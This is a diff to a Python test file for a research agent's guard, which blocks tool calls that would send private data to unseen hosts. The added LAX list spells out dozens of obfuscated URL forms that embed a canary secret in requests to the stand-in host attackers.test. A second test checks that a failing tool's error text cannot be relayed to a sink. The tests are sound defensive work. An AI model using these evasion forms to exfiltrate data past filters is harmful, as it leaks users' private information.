@@ -33,11 +33,11 @@ from research import events as e
 from research.budget import Meter
 from research.citations import shown
 from research.ending import execute
-from research.errors import ConfigError, Stopped
+from research.errors import ConfigError, Stopped, ToolError
 from research.events import Event, decode, encode
 from research.exports.json import as_dict
 from research.exports.markdown import markdown
-from research.guard import Guard
+from research.guard import Guard, PrivateError
 from research.journal import Journal
 from research.parsing import parse
 from research.protocols.tagged import Tagged, write_call
@@ -513,6 +513,54 @@ def test_a_tool_of_others_is_not_sent_to_an_assembled_url_either(library: Librar
         assert not toolbox.run(ToolCall("2", "fetcher", {"links": links}), check=guard.check).ok
     assert toolbox.run(ToolCall("3", "fetcher", {"links": ["https://example.org/page"]}), check=guard.check).ok
     assert fetcher.asked == [["https://example.org/page"]]
+
+
+LAX = [
+    "http://{host}/#{c}", "http://{HOST}/{c}", "http:/{host}/{c}", "http:{host}/{c}", "http:\\\\{host}\\{c}", "//{host}/{c}",
+    "\\\\{host}\\{c}", "ht\ntp://{host}/{c}", "http:\n//{host}/{c}", "http\t://{host}/{c}", "\u200bhttp:/\u200b/{host}/{c}",
+    "http：//{host}/{c}", "ｈｔｔｐ://{host}/{c}", "{host}/{c}", "{host}?{c}", "{host}:8000", "{c}@{host}/x", "http://{host}/<{c}>",
+    'http://{host}/"{c}', "http://{host}/ {c}", "http://{host}/)){c}", "203.0.113.7/{c}", "see http:/{host}/{c} now",
+    "see http://{host}/<{c}> now", "see http://{host}/" + ".,;:!?" * 3, "view-source://{host}/{c}", "http://{host}/#",
+    "http://ATTACKERS.test/", "http://{host}:80/", "HTTP://{host}/", "blob:http://{host}/{c}",
+]  # fmt: skip
+"""What tools of others have been known to open."""
+
+
+@pytest.mark.parametrize("name", ["url", "uri"])
+@pytest.mark.parametrize("address", LAX)
+def test_no_lax_reading_of_an_address_goes_to_a_tool_of_others(address: str, name: str) -> None:
+    host = "attackers.test"
+    address = address.replace("{host}", host).replace("{HOST}", host.title()).replace("{c}", CANARY)
+    guard = Guard()
+    seen = Source(1, f"http://{host}/", "Title", "and http://known.test/a?b=1#part or www.known.test/c.")
+    guard.heard("Read typed.test/page too.")
+    guard.saw(Observation("1", "visit", "words", sources=(seen,)))
+    guard.saw(Observation("2", "vault", CANARY, private=True))
+    for value in (address, [address], {"deep": {address: 1}}):
+        with pytest.raises(ToolError, match="seen private data"):
+            guard.check(ToolCall("3", "web__open", {name: value}))
+    said = "Compare 'http://known.test/a?b=1#part', (http://known.test/a?b=1). See <http://attackers.test/>."
+    for fine in ("typed.test/page", "http://known.test/a?b=1#part", "attackers.test/", said, "a/b.txt", "/etc/x.d/y",
+                 "3.5/4", "Mr. Smith: yes/no?", "me@typed.test", "v1.2"):  # fmt: skip
+        guard.check(ToolCall("3", "web__open", {"uri": fine}))
+
+
+def test_what_a_tool_says_when_it_fails_is_private_as_well(library: Library, sink: Sink) -> None:
+    class Refusing(Vault):
+        def __call__(self) -> ToolOutput:
+            raise PrivateError(f"cannot open {CANARY}: http://{sink.host}/{CANARY}")
+
+    guard = Guard()
+    toolbox = Toolbox([Refusing(), VisitTool(library, (sink.host,))])
+    failed = toolbox.run(ToolCall("1", "vault", {}), check=guard.check)
+    assert failed.private
+    assert not failed.ok
+    guard.saw(Observation("1", "vault", failed.text, failed.ok, private=failed.private))
+    result = toolbox.run(
+        ToolCall("2", "visit", {"url": f"http://{sink.host}/{CANARY}", "goal": "x"}), check=guard.check
+    )
+    assert "seen private data" in result.text
+    assert sink.received == []
 
 
 def test_the_public_library_is_not_private(bench: Workbench) -> None:
